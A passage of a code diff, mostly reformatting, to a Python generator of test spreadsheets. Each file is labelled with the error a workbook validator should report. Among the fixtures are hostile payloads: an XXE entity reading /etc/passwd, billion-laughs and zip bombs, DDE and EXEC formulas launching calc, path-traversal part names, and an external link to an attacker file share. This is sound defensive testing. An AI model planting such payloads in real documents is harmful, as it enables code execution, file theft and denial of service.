@@ -28,12 +28,15 @@ OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationshi
 PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
 SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
 DOCTYPE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
-          + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
-          + b"]>")
+LAUGHS = (
+    b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
+    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
+    + b"]>"
+)
 
 
 # --- writers that do what zipfile and Excel refuse to ------------------------------------------
+
 
 @dataclass
 class Entry:
@@ -69,11 +72,13 @@ def raw_zip(entries: list[Entry]) -> bytes:
         else:
             offset = offsets[e.alias]
         offsets.append(offset)
-        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *fields, 0, 0, 0, 0, 0,
-                               offset) + name
+        central += (
+            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *fields, 0, 0, 0, 0, 0, offset) + name
+        )
     start = len(out)
-    out += central + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
-                                 len(central), start, 0)
+    out += central + struct.pack(
+        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0
+    )
     return bytes(out)
 
 
@@ -92,13 +97,35 @@ def ole_file(streams: dict[str, bytes]) -> bytes:
 
     def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
         raw = name.encode("utf-16-le") + b"\0\0"
-        return (raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), kind, 1, none, right, child)
-                + bytes(36) + struct.pack("<IQ", start, size))
+        return (
+            raw.ljust(64, b"\0")
+            + struct.pack("<HBB3I", len(raw), kind, 1, none, right, child)
+            + bytes(36)
+            + struct.pack("<IQ", start, size)
+        )
 
     directory = entry("Root Entry", 5, 1, none, end, 0)
     directory += b"".join(entry(n, k, none, r, s, z) for n, k, _, r, s, z in entries)
-    header = struct.pack("<8s16s5H6s9I", bytes.fromhex("D0CF11E0A1B11AE1"), bytes(16), 0x3E, 3,
-                         0xFFFE, 9, 6, bytes(6), 0, 1, 1, 0, 4096, end, 0, end, 0)
+    header = struct.pack(
+        "<8s16s5H6s9I",
+        bytes.fromhex("D0CF11E0A1B11AE1"),
+        bytes(16),
+        0x3E,
+        3,
+        0xFFFE,
+        9,
+        6,
+        bytes(6),
+        0,
+        1,
+        1,
+        0,
+        4096,
+        end,
+        0,
+        end,
+        0,
+    )
     header += struct.pack("<109I", 0, *[free] * 108)
     fat_sector = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
     return header + fat_sector + directory.ljust(512, b"\0") + body
@@ -109,6 +136,7 @@ def _declaring_fat_sectors(data: bytes, count: int) -> bytes:
 
 
 # --- the base package --------------------------------------------------------------------------
+
 
 def make_base(path: Path) -> Path:
     """A small valid return-like workbook (openpyxl), with an ordinary web hyperlink."""
@@ -142,12 +170,22 @@ class Pkg:
         self.sheet = sheets[0] if sheets else "xl/worksheets/sheet1.xml"
         self.strings = next((p for p in self.parts if p.lower() == "xl/sharedstrings.xml"), "")
 
-    def add(self, name: str, data: bytes, content_type: str = "", rel_type: str = "",
-            source: str = "xl/workbook.xml", mode: str = "") -> Pkg:
+    def add(
+        self,
+        name: str,
+        data: bytes,
+        content_type: str = "",
+        rel_type: str = "",
+        source: str = "xl/workbook.xml",
+        mode: str = "",
+    ) -> Pkg:
         self.parts[name] = data
         if content_type:
-            self.edit("[Content_Types].xml", "</Types>",
-                      f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')
+            self.edit(
+                "[Content_Types].xml",
+                "</Types>",
+                f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>',
+            )
         if rel_type:
             self.relate(source, rel_type, "/" + name, mode)
         return self
@@ -158,8 +196,12 @@ class Pkg:
         if rels not in self.parts:
             self.parts[rels] = f'<Relationships xmlns="{PKG_RELS}"></Relationships>'.encode()
         extra = f' TargetMode="{mode}"' if mode else ""
-        return self.edit(rels, "</Relationships>", f'<Relationship Id="rIdX{len(self.parts)}" '
-                         f'Type="{rel_type}" Target="{target}"{extra}/></Relationships>')
+        return self.edit(
+            rels,
+            "</Relationships>",
+            f'<Relationship Id="rIdX{len(self.parts)}" '
+            f'Type="{rel_type}" Target="{target}"{extra}/></Relationships>',
+        )
 
     def edit(self, part: str, old: str, new: str, count: int = 1) -> Pkg:
         text = self.parts[part].decode("utf-8")
@@ -191,8 +233,9 @@ class Pkg:
 def _sheet(body: str, prefix: str = "") -> bytes:
     p = f"{prefix}:" if prefix else ""
     decl = f"xmlns:{prefix}" if prefix else "xmlns"
-    return (f'<{p}worksheet {decl}="{MAIN}"><{p}sheetData>{body}</{p}sheetData>'
-            f"</{p}worksheet>").encode()
+    return (
+        f'<{p}worksheet {decl}="{MAIN}"><{p}sheetData>{body}</{p}sheetData></{p}worksheet>'
+    ).encode()
 
 
 def _dimension(pkg: Pkg, ref: str) -> Pkg:
@@ -227,9 +270,12 @@ def _stored(pkg: Pkg, name: str, data: bytes) -> bytes:
 def _strings(pkg: Pkg) -> str:
     if not pkg.strings:
         pkg.strings = "xl/sharedStrings.xml"
-        pkg.add(pkg.strings, f'<sst xmlns="{MAIN}"/>'.encode(),
-                "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
-                f"{OFFICE_RELS}/sharedStrings")
+        pkg.add(
+            pkg.strings,
+            f'<sst xmlns="{MAIN}"/>'.encode(),
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
+            f"{OFFICE_RELS}/sharedStrings",
+        )
     return pkg.strings
 
 
@@ -273,8 +319,9 @@ def _cell_bomb(pkg: Pkg) -> bytes:
 
 def _utf16(pkg: Pkg, part: str, prolog: str, encoding: str) -> bytes:
     text = re.sub(r"^\s*<\?xml[^>]*\?>", "", pkg.parts[part].decode())
-    return _replace(pkg, part, (f'<?xml version="1.0" encoding="UTF-16"?>{prolog}{text}')
-                    .encode(encoding))
+    return _replace(
+        pkg, part, (f'<?xml version="1.0" encoding="UTF-16"?>{prolog}{text}').encode(encoding)
+    )
 
 
 def _reencode(pkg: Pkg, part: str, declared: str, codec: str) -> bytes:
@@ -286,251 +333,588 @@ def _defined_name(pkg: Pkg, xml: str) -> bytes:
     text = pkg.parts["xl/workbook.xml"].decode()
     if "<definedNames>" in text:
         return pkg.edit("xl/workbook.xml", "<definedNames>", "<definedNames>" + xml).zip()
-    return pkg.edit("xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{xml}</definedNames>"
-                    ).zip()
+    return pkg.edit(
+        "xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{xml}</definedNames>"
+    ).zip()
 
 
 def _main_type(pkg: Pkg, content_type: str) -> bytes:
     types = pkg.parts["[Content_Types].xml"].decode()
-    types = re.sub(r'(PartName="/xl/workbook.xml"\s+ContentType=")[^"]*', r"\g<1>" + content_type,
-                   types)
+    types = re.sub(
+        r'(PartName="/xl/workbook.xml"\s+ContentType=")[^"]*', r"\g<1>" + content_type, types
+    )
     return _replace(pkg, "[Content_Types].xml", types.encode())
 
 
 def _link(pkg: Pkg, body: str) -> Pkg:
-    pkg.edit("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference '
-             f'xmlns:r="{OFFICE_RELS}" r:id="rIdLink"/></externalReferences>')
-    return pkg.add("xl/externalLinks/externalLink1.xml",
-                   f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}">{body}</externalLink>'
-                   .encode(),
-                   "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
-                   f"{OFFICE_RELS}/externalLink")
+    pkg.edit(
+        "xl/workbook.xml",
+        "</sheets>",
+        f"</sheets><externalReferences><externalReference "
+        f'xmlns:r="{OFFICE_RELS}" r:id="rIdLink"/></externalReferences>',
+    )
+    return pkg.add(
+        "xl/externalLinks/externalLink1.xml",
+        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}">{body}</externalLink>'.encode(),
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
+        f"{OFFICE_RELS}/externalLink",
+    )
 
 
 def _grid(rows: int, columns: int) -> bytes:
-    letters = [chr(65 + i // 26 - 1) + chr(65 + i % 26) if i >= 26 else chr(65 + i)
-               for i in range(columns)]
-    return _sheet("".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters)
-                          + "</row>" for r in range(1, rows + 1)))
+    letters = [
+        chr(65 + i // 26 - 1) + chr(65 + i % 26) if i >= 26 else chr(65 + i) for i in range(columns)
+    ]
+    return _sheet(
+        "".join(
+            f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters) + "</row>"
+            for r in range(1, rows + 1)
+        )
+    )
 
 
 Builder = Callable[[Pkg], bytes]
 DDE = "cmd|' /C calc'!A0"
 MS_RELS = "http://schemas.microsoft.com/office/2006/relationships"
 CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
-ODS = [Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
-       Entry("content.xml", b"<office:document-content/>"), Entry("META-INF/manifest.xml", b"<m/>")]
-XLSB = [Entry("[Content_Types].xml", b"<Types/>"), Entry("_rels/.rels", b"<Relationships/>"),
-        Entry("xl/workbook.bin", b"\x83\x01\x00"), Entry("xl/worksheets/sheet1.bin", b"\x81\x01")]
+ODS = [
+    Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
+    Entry("content.xml", b"<office:document-content/>"),
+    Entry("META-INF/manifest.xml", b"<m/>"),
+]
+XLSB = [
+    Entry("[Content_Types].xml", b"<Types/>"),
+    Entry("_rels/.rels", b"<Relationships/>"),
+    Entry("xl/workbook.bin", b"\x83\x01\x00"),
+    Entry("xl/worksheets/sheet1.bin", b"\x81\x01"),
+]
 
 CASES: list[tuple[str, str, Builder]] = [
     # Not a zip at all.
     ("empty.xlsx", "empty-file", lambda _: b""),
     ("export.xlsx", "csv-file", lambda _: b"Organisation,Year,Savings\r\nLEI,2009/10,1200\r\n"),
-    ("unicode-text.xlsx", "csv-file",
-     lambda _: "Organisation\tYear\r\nLEI\t2009\r\n".encode("utf-16")),
+    (
+        "unicode-text.xlsx",
+        "csv-file",
+        lambda _: "Organisation\tYear\r\nLEI\t2009\r\n".encode("utf-16"),
+    ),
     ("web-page.xlsx", "html-file", lambda _: b"<html><body><table><tr><td>1</td></tr></table>"),
-    ("web-archive.xlsx", "html-file",
-     lambda _: b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n'),
-    ("xml-2003.xlsx", "not-a-workbook",
-     lambda _: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:'
-               b'spreadsheet">'),
+    (
+        "web-archive.xlsx",
+        "html-file",
+        lambda _: b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n',
+    ),
+    (
+        "xml-2003.xlsx",
+        "not-a-workbook",
+        lambda _: (
+            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
+        ),
+    ),
     ("random.xlsx", "not-a-workbook", lambda _: random.Random(179).randbytes(4096)),
     ("report.xlsx", "not-a-workbook", lambda _: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
     ("letter.xlsx", "not-a-workbook", lambda _: b"Dear colleague\r\nOur return is attached.\r\n"),
-    ("legacy.xls", "legacy-xls",
-     lambda _: ole_file({"Workbook": b"\x09\x08\x10\x00\x00\x06", "\x05SummaryInformation": b""})),
-    ("encrypted.xlsx", "password-protected",
-     lambda _: ole_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
-                         "EncryptedPackage": random.Random(7).randbytes(5000)})),
+    (
+        "legacy.xls",
+        "legacy-xls",
+        lambda _: ole_file(
+            {"Workbook": b"\x09\x08\x10\x00\x00\x06", "\x05SummaryInformation": b""}
+        ),
+    ),
+    (
+        "encrypted.xlsx",
+        "password-protected",
+        lambda _: ole_file(
+            {
+                "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
+                "EncryptedPackage": random.Random(7).randbytes(5000),
+            }
+        ),
+    ),
     # Some encryptors declare more allocation sectors than a small file needs (calamine's
     # pass_protected.xlsx has three for 28 sectors): still a workbook that needs a password.
-    ("encrypted-roomy.xlsx", "password-protected",
-     lambda _: _declaring_fat_sectors(ole_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
-                                                "EncryptedPackage": random.Random(7).randbytes(5000)}), 3)),
-    ("damaged-ole.xls", "corrupt-file",
-     lambda _: bytes.fromhex("D0CF11E0A1B11AE1") + b"\xff" * 600),
+    (
+        "encrypted-roomy.xlsx",
+        "password-protected",
+        lambda _: _declaring_fat_sectors(
+            ole_file(
+                {
+                    "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
+                    "EncryptedPackage": random.Random(7).randbytes(5000),
+                }
+            ),
+            3,
+        ),
+    ),
+    (
+        "damaged-ole.xls",
+        "corrupt-file",
+        lambda _: bytes.fromhex("D0CF11E0A1B11AE1") + b"\xff" * 600,
+    ),
     ("prefixed-zip.xlsx", "not-a-workbook", lambda pkg: b"JUNK" * 64 + pkg.zip()),
     # Zips that are not .xlsx, or damaged or crafted zips.
     ("ods.xlsx", "ods-file", lambda _: raw_zip(ODS)),
     ("binary.xlsx", "binary-xlsb", lambda _: raw_zip(XLSB)),
-    ("word.xlsx", "not-a-workbook",
-     lambda _: raw_zip([Entry("[Content_Types].xml", b"<Types/>"),
-                        Entry("word/document.xml", b"")])),
+    (
+        "word.xlsx",
+        "not-a-workbook",
+        lambda _: raw_zip(
+            [Entry("[Content_Types].xml", b"<Types/>"), Entry("word/document.xml", b"")]
+        ),
+    ),
     ("archive.xlsx", "not-a-workbook", lambda _: raw_zip([Entry("notes.txt", b"hello")])),
     ("truncated.xlsx", "corrupt-file", lambda pkg: (data := pkg.zip())[: len(data) * 2 // 3]),
     ("truncated-directory.xlsx", "corrupt-file", lambda pkg: pkg.zip()[:-10]),
-    ("bad-crc.xlsx", "corrupt-file",
-     lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], crc=1)})),
-    ("bad-deflate.xlsx", "corrupt-file", lambda pkg: pkg.zip(**{pkg.sheet: Entry(
-        pkg.sheet, compressed=b"\xff" * 64, size=100, crc=0)})),
+    (
+        "bad-crc.xlsx",
+        "corrupt-file",
+        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], crc=1)}),
+    ),
+    (
+        "bad-deflate.xlsx",
+        "corrupt-file",
+        lambda pkg: pkg.zip(
+            **{pkg.sheet: Entry(pkg.sheet, compressed=b"\xff" * 64, size=100, crc=0)}
+        ),
+    ),
     ("duplicate.xlsx", "duplicate-part", lambda pkg: _extra(pkg, Entry(pkg.sheet, _sheet("")))),
-    ("case-clash.xlsx", "duplicate-part",
-     lambda pkg: _extra(pkg, Entry("xl/Workbook.xml", pkg.parts["xl/workbook.xml"]))),
+    (
+        "case-clash.xlsx",
+        "duplicate-part",
+        lambda pkg: _extra(pkg, Entry("xl/Workbook.xml", pkg.parts["xl/workbook.xml"])),
+    ),
     ("dot-dot.xlsx", "unsafe-part-path", lambda pkg: _extra(pkg, Entry("../../evil.xml", b"<x/>"))),
     ("absolute.xlsx", "unsafe-part-path", lambda pkg: _extra(pkg, Entry("/etc/cron.d/x", b"x"))),
-    ("backslash.xlsx", "unsafe-part-path",
-     lambda pkg: _extra(pkg, Entry("xl\\worksheets\\sheet9.xml", b"<x/>"))),
-    ("nul-name.xlsx", "unsafe-part-path",
-     lambda pkg: _extra(pkg, Entry(b"xl/a.xml\x00.png", b"x"))),
-    ("declared-huge.xlsx", "too-large",
-     lambda pkg: _extra(pkg, _random("xl/media/image9.png", 300_000, 25 * MB))),
-    ("declared-huge-total.xlsx", "too-large", lambda pkg: _extra(
-        pkg, *[_random(f"xl/media/image{i}.png", 300_000 + i, 18 * MB) for i in range(3)])),
-    ("file-too-big.xlsx", "too-large", lambda pkg: _extra(
-        pkg, Entry("xl/media/image9.png", random.Random(1).randbytes(21 * MB), method=0))),
+    (
+        "backslash.xlsx",
+        "unsafe-part-path",
+        lambda pkg: _extra(pkg, Entry("xl\\worksheets\\sheet9.xml", b"<x/>")),
+    ),
+    (
+        "nul-name.xlsx",
+        "unsafe-part-path",
+        lambda pkg: _extra(pkg, Entry(b"xl/a.xml\x00.png", b"x")),
+    ),
+    (
+        "declared-huge.xlsx",
+        "too-large",
+        lambda pkg: _extra(pkg, _random("xl/media/image9.png", 300_000, 25 * MB)),
+    ),
+    (
+        "declared-huge-total.xlsx",
+        "too-large",
+        lambda pkg: _extra(
+            pkg, *[_random(f"xl/media/image{i}.png", 300_000 + i, 18 * MB) for i in range(3)]
+        ),
+    ),
+    (
+        "file-too-big.xlsx",
+        "too-large",
+        lambda pkg: _extra(
+            pkg, Entry("xl/media/image9.png", random.Random(1).randbytes(21 * MB), method=0)
+        ),
+    ),
     ("zip-bomb.xlsx", "zip-bomb", _bomb),
     ("cell-bomb.xlsx", "zip-bomb", _cell_bomb),
-    ("many-parts.xlsx", "too-many-parts", lambda pkg: _extra(
-        pkg, *[Entry(f"xl/media/image{i}.png", b"x", method=0) for i in range(1200)])),
+    (
+        "many-parts.xlsx",
+        "too-many-parts",
+        lambda pkg: _extra(
+            pkg, *[Entry(f"xl/media/image{i}.png", b"x", method=0) for i in range(1200)]
+        ),
+    ),
     ("overlapping.xlsx", "corrupt-file", lambda pkg: _extra(pkg, Entry("xl/media/a.png", alias=0))),
-    ("understated-size.xlsx", "corrupt-file",
-     lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], size=100)})),
-    ("bzip2.xlsx", "corrupt-file",
-     lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], label=12)})),
-    ("zip-encrypted.xlsx", "password-protected",
-     lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], flags=1)})),
+    (
+        "understated-size.xlsx",
+        "corrupt-file",
+        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], size=100)}),
+    ),
+    (
+        "bzip2.xlsx",
+        "corrupt-file",
+        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], label=12)}),
+    ),
+    (
+        "zip-encrypted.xlsx",
+        "password-protected",
+        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], flags=1)}),
+    ),
     # XML parts.
-    ("doctype-workbook.xlsx", "xml-dtd",
-     lambda pkg: pkg.with_prolog("xl/workbook.xml", b"<!DOCTYPE workbook>").zip()),
+    (
+        "doctype-workbook.xlsx",
+        "xml-dtd",
+        lambda pkg: pkg.with_prolog("xl/workbook.xml", b"<!DOCTYPE workbook>").zip(),
+    ),
     ("billion-laughs.xlsx", "xml-dtd", lambda pkg: pkg.with_prolog(_strings(pkg), LAUGHS).zip()),
-    ("xxe-sheet.xlsx", "xml-dtd", lambda pkg: pkg.with_prolog(pkg.sheet, DOCTYPE).cells(
-        '<row r="1999"><c r="A1999" t="inlineStr"><is><t>&xxe;</t></is></c></row>').zip()),
-    ("utf16-dtd.xlsx", "xml-dtd",
-     lambda pkg: _utf16(pkg, "xl/styles.xml", '<!DOCTYPE x [<!ENTITY a "b">]>', "utf-16")),
-    ("utf16be-dtd.xlsx", "xml-dtd",
-     lambda pkg: _utf16(pkg, "_rels/.rels", "<!DOCTYPE x>", "utf-16-be")),
-    ("vml-dtd.xlsx", "xml-dtd", lambda pkg: _extra(pkg, Entry(
-        "xl/drawings/vmlDrawing9.vml",
-        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><xml>'))),
+    (
+        "xxe-sheet.xlsx",
+        "xml-dtd",
+        lambda pkg: (
+            pkg.with_prolog(pkg.sheet, DOCTYPE)
+            .cells('<row r="1999"><c r="A1999" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
+            .zip()
+        ),
+    ),
+    (
+        "utf16-dtd.xlsx",
+        "xml-dtd",
+        lambda pkg: _utf16(pkg, "xl/styles.xml", '<!DOCTYPE x [<!ENTITY a "b">]>', "utf-16"),
+    ),
+    (
+        "utf16be-dtd.xlsx",
+        "xml-dtd",
+        lambda pkg: _utf16(pkg, "_rels/.rels", "<!DOCTYPE x>", "utf-16-be"),
+    ),
+    (
+        "vml-dtd.xlsx",
+        "xml-dtd",
+        lambda pkg: _extra(
+            pkg,
+            Entry(
+                "xl/drawings/vmlDrawing9.vml",
+                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><xml>',
+            ),
+        ),
+    ),
     ("utf7.xlsx", "corrupt-file", lambda pkg: _reencode(pkg, "xl/styles.xml", "UTF-7", "utf-7")),
     ("utf32.xlsx", "corrupt-file", lambda pkg: _reencode(pkg, "xl/styles.xml", "UTF-32", "utf-32")),
-    ("malformed-sheet.xlsx", "corrupt-file",
-     lambda pkg: _replace(pkg, pkg.sheet, pkg.parts[pkg.sheet][: len(pkg.parts[pkg.sheet]) // 2])),
-    ("bad-cell-ref.xlsx", "corrupt-file",
-     lambda pkg: pkg.cells('<row r="1998"><c r="A0"><v>1</v></c></row>').zip()),
-    ("binary-sheet.xlsx", "corrupt-file",
-     lambda pkg: _replace(pkg, pkg.sheet, random.Random(3).randbytes(2000))),
+    (
+        "malformed-sheet.xlsx",
+        "corrupt-file",
+        lambda pkg: _replace(
+            pkg, pkg.sheet, pkg.parts[pkg.sheet][: len(pkg.parts[pkg.sheet]) // 2]
+        ),
+    ),
+    (
+        "bad-cell-ref.xlsx",
+        "corrupt-file",
+        lambda pkg: pkg.cells('<row r="1998"><c r="A0"><v>1</v></c></row>').zip(),
+    ),
+    (
+        "binary-sheet.xlsx",
+        "corrupt-file",
+        lambda pkg: _replace(pkg, pkg.sheet, random.Random(3).randbytes(2000)),
+    ),
     # Macros, links, connections, embedded objects.
-    ("vba.xlsx", "macros", lambda pkg: pkg.add(
-        "xl/vbaProject.bin", ole_file({"VBA": b"Attribute"}),
-        "application/vnd.ms-office.vbaProject",
-        f"{MS_RELS}/vbaProject").zip()),
-    ("xlsm.xlsx", "macros",
-     lambda pkg: _main_type(pkg, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
-    ("macro-sheet.xlsx", "macros", lambda pkg: pkg.add(
-        "xl/macrosheets/sheet1.xml", _sheet('<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'),
-        "application/vnd.ms-excel.macrosheet+xml", f"{MS_RELS}/xlMacrosheet").zip()),
-    ("external-link.xlsx", "external-link", lambda pkg: _link(
-        pkg, '<externalBook r:id="rId1"><sheetNames><sheetName val="Budget"/></sheetNames>'
-        "</externalBook>").relate("xl/externalLinks/externalLink1.xml",
-                                  f"{OFFICE_RELS}/externalLinkPath",
-                                  "file:///C:/Finance/budget.xlsx", "External").zip()),
-    ("external-relationship.xlsx", "external-link", lambda pkg: pkg.relate(
-        pkg.sheet, f"{OFFICE_RELS}/externalLinkPath", "file://server/share/budget.xlsx",
-        "External").zip()),
-    ("linked-picture.xlsx", "external-link", lambda pkg: pkg.add(
-        "xl/drawings/drawing9.xml", b"<wsDr/>").relate(
-        "xl/drawings/drawing9.xml", f"{OFFICE_RELS}/image", "file://attacker/share/a.png",
-        "External").zip()),
-    ("dde-formula.xlsx", "dde-link",
-     lambda pkg: pkg.cells(f'<row r="1999"><c r="B1999"><f>{DDE}</f></c></row>').zip()),
-    ("dde-defined-name.xlsx", "dde-link",
-     lambda pkg: _defined_name(pkg, f'<definedName name="Go">{DDE}</definedName>')),
-    ("dde-validation.xlsx", "dde-link", lambda pkg: pkg.after_data(
-        '<dataValidations count="1"><dataValidation type="list" sqref="C2">'
-        f"<formula1>{DDE}</formula1></dataValidation></dataValidations>").zip()),
-    ("dde-link.xlsx", "dde-link", lambda pkg: _link(
-        pkg, '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
-        "</ddeItems></ddeLink>").zip()),
-    ("connections.xlsx", "data-connection", lambda pkg: pkg.add(
-        "xl/connections.xml", f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="1">'
-        '<dbPr connection="DSN=x" command="SELECT 1"/></connection></connections>'.encode(),
-        CT + "connections+xml", f"{OFFICE_RELS}/connections").zip()),
-    ("query-table.xlsx", "data-connection", lambda pkg: pkg.add(
-        "xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{MAIN}" name="q" connectionId="1"/>'
-        .encode(), CT + "queryTable+xml", f"{OFFICE_RELS}/queryTable", source=pkg.sheet).zip()),
-    ("embedded-zip.xlsx", "embedded-object", lambda pkg: pkg.add(
-        "xl/embeddings/oleObject1.bin", raw_zip([Entry("inner.xlsx", b"0" * MB)]),
-        "application/vnd.openxmlformats-officedocument.oleObject", f"{OFFICE_RELS}/oleObject",
-        source=pkg.sheet).zip()),
-    ("activex.xlsx", "embedded-object", lambda pkg: pkg.add(
-        "xl/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
-        b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
-        "application/vnd.ms-office.activeX+xml").zip()),
+    (
+        "vba.xlsx",
+        "macros",
+        lambda pkg: pkg.add(
+            "xl/vbaProject.bin",
+            ole_file({"VBA": b"Attribute"}),
+            "application/vnd.ms-office.vbaProject",
+            f"{MS_RELS}/vbaProject",
+        ).zip(),
+    ),
+    (
+        "xlsm.xlsx",
+        "macros",
+        lambda pkg: _main_type(pkg, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
+    ),
+    (
+        "macro-sheet.xlsx",
+        "macros",
+        lambda pkg: pkg.add(
+            "xl/macrosheets/sheet1.xml",
+            _sheet('<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'),
+            "application/vnd.ms-excel.macrosheet+xml",
+            f"{MS_RELS}/xlMacrosheet",
+        ).zip(),
+    ),
+    (
+        "external-link.xlsx",
+        "external-link",
+        lambda pkg: (
+            _link(
+                pkg,
+                '<externalBook r:id="rId1"><sheetNames><sheetName val="Budget"/></sheetNames>'
+                "</externalBook>",
+            )
+            .relate(
+                "xl/externalLinks/externalLink1.xml",
+                f"{OFFICE_RELS}/externalLinkPath",
+                "file:///C:/Finance/budget.xlsx",
+                "External",
+            )
+            .zip()
+        ),
+    ),
+    (
+        "external-relationship.xlsx",
+        "external-link",
+        lambda pkg: pkg.relate(
+            pkg.sheet,
+            f"{OFFICE_RELS}/externalLinkPath",
+            "file://server/share/budget.xlsx",
+            "External",
+        ).zip(),
+    ),
+    (
+        "linked-picture.xlsx",
+        "external-link",
+        lambda pkg: (
+            pkg.add("xl/drawings/drawing9.xml", b"<wsDr/>")
+            .relate(
+                "xl/drawings/drawing9.xml",
+                f"{OFFICE_RELS}/image",
+                "file://attacker/share/a.png",
+                "External",
+            )
+            .zip()
+        ),
+    ),
+    (
+        "dde-formula.xlsx",
+        "dde-link",
+        lambda pkg: pkg.cells(f'<row r="1999"><c r="B1999"><f>{DDE}</f></c></row>').zip(),
+    ),
+    (
+        "dde-defined-name.xlsx",
+        "dde-link",
+        lambda pkg: _defined_name(pkg, f'<definedName name="Go">{DDE}</definedName>'),
+    ),
+    (
+        "dde-validation.xlsx",
+        "dde-link",
+        lambda pkg: pkg.after_data(
+            '<dataValidations count="1"><dataValidation type="list" sqref="C2">'
+            f"<formula1>{DDE}</formula1></dataValidation></dataValidations>"
+        ).zip(),
+    ),
+    (
+        "dde-link.xlsx",
+        "dde-link",
+        lambda pkg: _link(
+            pkg,
+            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
+            "</ddeItems></ddeLink>",
+        ).zip(),
+    ),
+    (
+        "connections.xlsx",
+        "data-connection",
+        lambda pkg: pkg.add(
+            "xl/connections.xml",
+            f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="1">'
+            '<dbPr connection="DSN=x" command="SELECT 1"/></connection></connections>'.encode(),
+            CT + "connections+xml",
+            f"{OFFICE_RELS}/connections",
+        ).zip(),
+    ),
+    (
+        "query-table.xlsx",
+        "data-connection",
+        lambda pkg: pkg.add(
+            "xl/queryTables/queryTable1.xml",
+            f'<queryTable xmlns="{MAIN}" name="q" connectionId="1"/>'.encode(),
+            CT + "queryTable+xml",
+            f"{OFFICE_RELS}/queryTable",
+            source=pkg.sheet,
+        ).zip(),
+    ),
+    (
+        "embedded-zip.xlsx",
+        "embedded-object",
+        lambda pkg: pkg.add(
+            "xl/embeddings/oleObject1.bin",
+            raw_zip([Entry("inner.xlsx", b"0" * MB)]),
+            "application/vnd.openxmlformats-officedocument.oleObject",
+            f"{OFFICE_RELS}/oleObject",
+            source=pkg.sheet,
+        ).zip(),
+    ),
+    (
+        "activex.xlsx",
+        "embedded-object",
+        lambda pkg: pkg.add(
+            "xl/activeX/activeX1.xml",
+            b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
